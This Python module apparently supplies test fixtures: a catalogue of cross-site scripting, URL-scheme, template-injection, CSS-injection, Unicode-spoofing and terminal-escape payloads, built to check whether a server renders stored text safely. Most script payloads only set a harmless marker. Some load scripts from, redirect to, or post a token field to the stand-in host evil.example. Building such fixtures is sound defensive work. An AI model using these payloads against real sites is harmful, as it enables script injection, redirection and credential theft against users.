"""Texts that run a script, leave a page or spoil it where they are shown without care. Each that runs sets `__hit`."""

from itertools import cycle

HIT = "window.__hit=1"
FOREIGN = "https://evil.example"

HANDLERS = """
onload onerror onclick onmouseover onfocus onblur ontoggle onbegin onend onanimationstart onanimationend
ontransitionend onpointerenter onpointerdown onwheel onscroll onresize onhashchange onpageshow onmessage
onpaste oncopy oncut oninput onchange oninvalid onsearch onselect ondrag ondrop onkeydown onkeyup oncanplay
onplay onloadstart onloadeddata onstart onfinish onbounce onbeforetoggle onauxclick ongotpointercapture
onfullscreenchange
"""

ELEMENTS = """
svg img body video audio iframe object embed details marquee input select textarea button form style link meta
base table td math template noscript xmp plaintext title keygen isindex frameset applet bgsound layer dialog a
"""

SCRIPTS = (
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"</script><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f'"><script>{HIT}</script>',
    f"'><script>{HIT}</script>",
    f"`><script>{HIT}</script>",
    f"<script src={FOREIGN}/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{HIT}</script>",
    f'<script type="text/javascript" async>{HIT}</script>',
    f"<script\x20>{HIT}</script>",
    f"<script\x0d\x0a>{HIT}</script>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href='data:text/javascript,{HIT}'/></svg>",
    f"<math><mtext><script>{HIT}</script></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<template><script>{HIT}</script></template>",
    f"<iframe srcdoc='<script>parent.{HIT.removeprefix('window.')}</script>'></iframe>",
    f"<object data='data:text/html,<script>{HIT}</script>'></object>",
    f"<embed src='data:text/html,<script>{HIT}</script>'>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}'>",
    f"<base href={FOREIGN}/>",
    f"<link rel=stylesheet href={FOREIGN}/x.css>",
    f"<link rel=import href={FOREIGN}/x.html>",
    f"<form action={FOREIGN}><input name=token></form>",
    f"<img src={FOREIGN}/pixel.gif>",
    f"<video poster={FOREIGN}/pixel.gif></video>",
    f"<body background={FOREIGN}/pixel.gif>",
)

ADDRESSES = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f" javascript:{HIT}",
    f"javascript://%0a{HIT}",
    f"javascript&colon;{HIT}",
    f"&#106;avascript:{HIT}",
    f"vbscript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    f"<a href='javascript:{HIT}'>x</a>",
    f"[x](javascript:{HIT})",
    f"![x]({FOREIGN}/pixel.gif)",
    "//evil.example/",
    "/\\evil.example/",
    f"{FOREIGN}/",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
)

TEMPLATES = (
    "{{constructor.constructor('window.__hit=1')()}}",
    "${window.__hit=1}",
    "#{window.__hit=1}",
    "<%= window.__hit=1 %>",
    "{%raw%}{{7*7}}{%endraw%}",
    "{{7*7}}",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    '{"__proto__": {"x": 1}}',
    '{"$$typeof": "react.element", "type": "script"}',
    '{"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=window.__hit=1>"}}',
    "'; window.__hit=1; //",
    '"; window.__hit=1; //',
    "`; window.__hit=1; //",
    "\\'; window.__hit=1; //",
    "\\u003cscript\\u003ewindow.__hit=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.__hit=1%3C/script%3E",
    "&lt;script&gt;window.__hit=1&lt;/script&gt;",
    "&#x3C;script&#x3E;window.__hit=1&#x3C;/script&#x3E;",
    "+ADw-script+AD4-window.__hit=1+ADw-/script+AD4-",
)

STYLES = (
    f"x; background: url({FOREIGN}/pixel.gif)",
    f"red; }} body {{ background: url({FOREIGN}/pixel.gif) }}",
    f"<style>body {{ background: url({FOREIGN}/pixel.gif) }}</style>",
    f"<style>@import '{FOREIGN}/x.css'</style>",
    f"<div style='background:url({FOREIGN}/pixel.gif)'>",
    f"expression({HIT})",
    "</td></tr></table><h1>gone</h1>",
    "<h1>a second heading</h1>",
    "<div style='position:fixed;inset:0;background:red'>",
    "<!--",
    "<![CDATA[",
    "<plaintext>",
)

CHARACTERS = (
    "\u202egpj.exe\u202c",
    "\u2066left\u2069",
    "\u200bzero\u200bwidth",
    "a\u0301" * 40,
    "Z\u0335\u0321\u0347" * 20,
    "\ufeffmark",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "x" * 400,
    "word " * 60,
    "|" * 300,
    "مرحبا <script>window.__hit=1</script>",
    "\u2028window.__hit=1\u2029",
)

IN_TERMINALS = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    f"\x1b]8;;javascript:{HIT}\x07click\x1b]8;;\x07",
    f"\x1b]8;;{FOREIGN}\x07click\x1b]8;;\x07",
    "\x1b]0;a title\x07",
    "\x1b]52;c;d2luZG93Ll9faGl0PTE=\x07",
    "\x1b[8mhidden\x1b[0m",
    "\rover the line",
    "\x07\x08\x08",
    "\x9b31m",
)
"""What terminals obey. A server stores these nowhere but in the output of a job."""


def payloads() -> list[str]:
    """All that a text may hold which the server keeps."""
    handlers, elements = HANDLERS.split(), ELEMENTS.split()
    handled = [f'<{element} src=x {name}="{HIT}" autofocus>' for name, element in zip(handlers, cycle(elements))]
    broken = [f'"{name}={HIT} x="' for name in handlers]
    loaded = [f"<{name} src=x href=javascript:{HIT} onerror={HIT} onload={HIT}>" for name in elements]
    return [*SCRIPTS, *ADDRESSES, *TEMPLATES, *STYLES, *CHARACTERS, *handled, *broken, *loaded]
